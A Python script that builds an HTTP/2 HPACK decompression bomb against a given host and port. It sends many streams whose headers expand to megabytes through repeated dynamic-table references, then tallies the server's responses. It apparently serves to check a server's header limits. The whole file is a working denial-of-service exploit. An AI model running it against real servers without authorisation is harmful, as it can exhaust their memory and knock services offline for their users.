#!/usr/bin/env python3
"""HPACK bomb: request header blocks that decode to far more than their size on the wire.

    h2_hpack_bomb.py HOST PORT [--streams N] [--references R] [--rounds K]

Over one h2c connection (prior knowledge), each round opens N streams at once, every one a GET
whose header block names one 4,000-byte header R times: the first occurrence enters the HPACK
dynamic table, the rest are one-byte references — ~N × R × 4 KB decoded from a few KB on the wire.
Prints the response statuses (and resets) as JSON, e.g. {"431": 500}.
"""
import json
import socket
import sys
from collections import Counter

import h2.config
import h2.connection
import h2.events
import h2.settings


def main() -> int:
    args = sys.argv[1:]
    host, port = args[0], int(args[1])
    options = dict(zip(args[2::2], args[3::2]))
    streams, references, rounds = int(options.get("--streams", 100)), int(options.get("--references", 250)), int(options.get("--rounds", 5))
    sock = socket.create_connection((host, port), timeout=20)
    config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False, normalize_outbound_headers=False)
    conn = h2.connection.H2Connection(config=config)
    conn.local_settings = h2.settings.Settings(client=True, initial_values={h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS: 1000})
    conn.initiate_connection()
    conn.max_outbound_frame_size = 16384
    sock.sendall(conn.data_to_send())
    results = Counter()
    bomb = [("x-bomb", "b" * 4000)] * references
    for _ in range(rounds):
        ids = []
        for _ in range(streams):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "GET"), (":scheme", "http"), (":path", "/healthz"), (":authority", f"{host}:{port}")] + bomb, end_stream=True)
            ids.append(sid)
        sock.sendall(conn.data_to_send())
        pending = set(ids)
        while pending:
            data = sock.recv(65536)
            if not data:
                results["connection closed"] += len(pending)
                print(json.dumps(results))
                return 1
            for event in conn.receive_data(data):
                sid = getattr(event, "stream_id", None)
                if isinstance(event, h2.events.ResponseReceived) and sid in pending:
                    results[dict(event.headers).get(":status")] += 1
                    pending.discard(sid)
                elif isinstance(event, h2.events.StreamReset) and sid in pending:
                    results[f"reset {event.error_code}"] += 1
                    pending.discard(sid)
            sock.sendall(conn.data_to_send())
    print(json.dumps(results))
    conn.close_connection()
    sock.sendall(conn.data_to_send())
    sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
